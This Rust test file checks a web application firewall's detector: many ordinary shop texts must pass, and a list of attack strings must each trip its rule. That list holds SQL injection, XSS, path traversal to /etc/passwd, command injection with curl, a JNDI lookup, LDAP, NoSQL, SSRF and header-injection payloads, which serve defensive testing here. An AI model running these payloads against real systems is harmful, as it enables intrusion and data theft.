//! What must pass, what must not, and what no input may do.

use std::sync::LazyLock;

use firewall::{Detector, Rule};
use proptest::prelude::*;

const SHOP: &[&str] = &[
    "O'Reilly",
    "D'or 1st parfum",
    "5' x 8'",
    "1/2\"",
    "Drop table leg",
    "select & union jack",
    "<3",
    "a < b",
    "a <b and c> d",
    "7\" #2 circular needle",
    "Spin Master DC Comics, 12-Inch Figure",
    "Docking station for 2.5in or 3.5in hard drive",
    "Update: set of 6 arrived, where is the lid? 10/10!",
    "Pick one from the list; create something new -- I did",
    "\"cross stitch\" -pdf -wool",
    "Rock 'n' roll & soul; cat lovers welcome",
    "Works if (x == 1) and y > 2, returns false otherwise",
    "if (order.total > 100) { discount = 10; } // my own shop script",
    "online = good, only = 1 left",
    "Salt and/or pepper... great value!!!",
    "Insert the plug into the wall; order by phone",
    "1 AND 1/2\" BUTTON",
    "35% cotton and 65% polyester",
    "https://shop.example/gifts?ref=mail&utm_source=news#top",
    "\"IS\" stamp",
    "Grüße aus Köln – 100 € (inkl. MwSt.)",
    "Please order by 5",
    "Last day for gifts: order by 20.12.",
    "Insert into the wall socket, then select the mode",
    "Insert into the slot and select values",
    "In case when it rains then put it inside",
    "48\" drop table leg",
    "Pack of 2 drop table legs",
    "European Union select committee",
    "5 or 6 people",
    "1 or 2",
    "size 8 or 10",
    "Leave at #5; ring the bell",
    "Call 555-1234 -- thanks",
    "select 2 or 3 from the list",
    "Update: set of 3 = good",
    "AT&T && Verizon",
    "Fish & Chips; 2 for 1",
    "D'Arcy & O'Neill",
    "L'Oréal \"Elvital\" shampoo",
    "5' 8\" tall; 6' wide",
    "12\" x 24\" (1/2\" thick) -- black",
    "Rock 'n' Roll, 'cause I like it",
    "don't like it, can't use it",
    "http://shop.example/a?b=c&d=e#f",
    "https://www.example.com/products/lamp?variant=12&ref=mail",
    "john.doe+shop@example.co.uk",
    "+49 (0)30 / 123-456",
    "c/o Smith, 12 Rue de l'Hôtel; 3ème étage",
    "Flat 2, \"The Oaks\" - rear entrance",
    "Works with Java: version 8 or later",
    "Live: at the Apollo 1980",
    "PlayStation Live:Gold card",
    "VB: Visual Basic book",
    "JavaScript: The Good Parts",
    "Learn <b>fast</b>",
    "<3 <3 <3 love it",
    "a <- b -> c",
    ":) ;-) :( >:( <o>",
    "{size: 10, colour: red}",
    "100% cotton; machine wash; 40°C",
    "50% off & free shipping!!!",
    "price = $5.00 (was $10)",
    "$100 or less",
    "${name}",
    "#1 seller",
    "C# in depth",
    "C++ / C# / F#",
    "\"The C Programming Language\" (2nd ed.)",
    "SQL: select, insert, update, delete - a primer",
    "System.out.println",
    "Prompt! (great delivery)",
    "alarm; sleep timer",
    "Alarm clock; sleep (5 modes)",
    "cat; dog; bird",
    "cat food | dog food",
    "Cat bed; cat tree",
    "Desk host: table for 6",
    "Great fit.\nX-large fits me well",
    "See you there\nHost family: Miller",
    "Line one\nLocation: Dublin",
    "Care\ncc: my wife",
    "and/or",
    "N/A",
    "D:\\Music",
    "file.tar.gz",
    "...and so on.../",
    "wait... / what",
    ".env",
    "id",
    "ls",
    "(2 or 3)",
    "1=1",
    "a or b = c",
    "\"a\" or \"b\"",
    "'a' or 'b'",
    "if 5 = 5 then yes",
    "1 and 1",
    "1 AND 1/2",
    "like 'new'",
    "he said 'hello' -- and left",
    "I'd like 2, she'd like 3",
    "user's guide #2",
    "men's shirt -- size L",
    "kid's",
    "kid's #1 choice",
    "boys' #5",
    "12' --long",
    "mother's day; father's day",
    "The kids' and dogs' favourite",
    "It's 10' * 12'",
    "5'-10\"",
    "6'+ tall",
    "Grandma's & Grandpa's",
    "What's \"in\" the box?",
    "'90s or '80s style",
    "'90s and 2000s",
    "Levi's 501's",
    "db.users.find",
    "password123' or not",
    "Happy New Year's Eve = 31.12",
    "O'Brien, 3",
    "O'Brien = 3",
    "O'Brien/Smith",
    "O'Brien*",
    "it's = good",
    "that's - great",
    "that's + great",
    "that's -great",
    "'Tis 3 - 2",
    "on 1 is best",
    "limit 10, 20",
    "Top 10 limit 5, please",
    "sleep(ing) bag",
    "sleep (deep)",
    "benchmark (best)",
    "version()",
    "count(er)top",
    "Left (5), right (6)",
    "max (10), min (5)",
    "round(ed) edges",
    "format (A4) & char (UTF8)",
    "group by colour",
    "having 2 kids",
    "kids having fun' always",
    "table's top",
    "user() guide",
    "Step 1. Select 2 colours",
    "Select \"2XL\" if you are tall",
    "Select size (S to XL)",
    "Select 'Gift wrap' at checkout",
    "Print (A3), framed",
    "Poster, print (A3)",
    "Wine (dry); write (or call) us",
    "Sunday 5.12.: order by 3.",
    "Add a photo, e.g. via import (CSV)",
    "Toppings (select 2) - vegan",
    "Choose a colour (select 2 or 3)",
    "Bundle: (select one), then (select two)",
];

static DETECTOR: LazyLock<Detector> = LazyLock::new(|| Detector::new().unwrap());

#[test]
fn the_words_of_a_shop_pass() {
    let mistaken: Vec<_> = SHOP
        .iter()
        .map(|text| (text, DETECTOR.detect(text)))
        .filter(|(_, rules)| !rules.is_empty())
        .collect();
    assert!(mistaken.is_empty(), "{mistaken:#?}");
}

#[test]
fn attacks_break_the_rule_of_their_class() {
    let attacks = [
        ("1 union all select null, null", Rule::SqliUnion),
        ("1/**/UnIoN/**/SeLeCt/**/login,2", Rule::SqliUnion),
        ("(select password from app_users)", Rule::SqliStatement),
        ("x'; drop table orders--", Rule::SqliStacked),
        ("' or 1=1--", Rule::SqliCondition),
        ("\") or (\"a\"=\"a", Rule::SqliCondition),
        ("1 and sleep(5)", Rule::SqliFunction),
        ("3 order by 7--", Rule::SqliClause),
        ("admin'--", Rule::SqliQuote),
        ("' || '", Rule::SqliQuote),
        ("<script>x()</script>", Rule::XssElement),
        ("<i onclick=x()>", Rule::XssHandler),
        ("\" onfocus=x autofocus \"", Rule::XssHandler),
        ("<img src=//a.example/b>", Rule::XssAttribute),
        ("java\nscript:x()", Rule::XssScheme),
        ("&#x6a;avascript&colon;x()", Rule::XssScheme),
        ("';alert(1)//", Rule::XssScript),
        ("<!ENTITY a SYSTEM 'b'>", Rule::Markup),
        ("../../../secret", Rule::Traversal),
        ("/etc/passwd", Rule::Traversal),
        ("a; cat /tmp/x", Rule::Command),
        ("$(curl a.example)", Rule::Command),
        ("${jndi:ldap://a.example/b}", Rule::Code),
        ("$ne", Rule::NoSql),
        ("*)(uid=*))(|(uid=*", Rule::Ldap),
        ("http://169.254.169.254/latest/", Rule::Ssrf),
        ("http://2130706433/", Rule::Ssrf),
        ("http://[::ffff:10.0.0.1]/", Rule::Ssrf),
        ("a\r\nSet-Cookie: b=c", Rule::LineBreak),
    ];
    for (text, rule) in attacks {
        let found = DETECTOR.detect(text);
        assert!(found.contains(&rule), "{text:?}: {found:?}");
    }
}

#[test]
fn an_attack_after_much_else_is_found() {
    let padded = format!("{} union select 1,2", "1,".repeat(10_000));
    assert!(DETECTOR.detect(&padded).contains(&Rule::SqliUnion));
}

#[test]
fn a_rule_counts_once() {
    let hint = "nuts /* no peanuts */ and /* only */ 'raisins' or \"dates";
    assert_eq!(DETECTOR.detect(hint), [Rule::SqliComment]);
}

#[test]
fn rules_have_names_of_their_own() {
    let mut names: Vec<_> = Rule::ALL.iter().map(|rule| rule.id()).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), Rule::ALL.len());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_text_is_read(text in "\\PC*") {
        DETECTOR.detect(&text);
    }

    #[test]
    fn any_pile_of_marks_is_read(text in "[`'\"/*!#@%&;<>()\\\\|a0 \\n-]{0,64}") {
        DETECTOR.detect(&text);
    }
}
